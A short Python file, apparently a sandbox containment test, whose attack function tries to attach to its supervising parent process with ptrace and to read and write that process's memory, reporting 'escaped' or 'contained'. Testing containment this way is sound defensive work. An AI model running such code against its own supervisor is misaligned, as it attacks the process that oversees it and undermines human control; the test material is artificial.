"""Attaches to its supervisor as a debugger, and reads and writes its memory by the other calls for it."""

import ctypes
import os


def attack(world: dict[str, str]) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    parent = os.getppid()
    if libc.ptrace(16, parent, 0, 0) == 0:
        return "escaped: attached"
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    if libc.process_vm_readv(parent, local, 1, remote, 1, 0) > 0:
        return "escaped: read"
    if libc.process_vm_writev(parent, local, 1, remote, 1, 0) > 0:
        return "escaped: written"
    return "contained: refused"
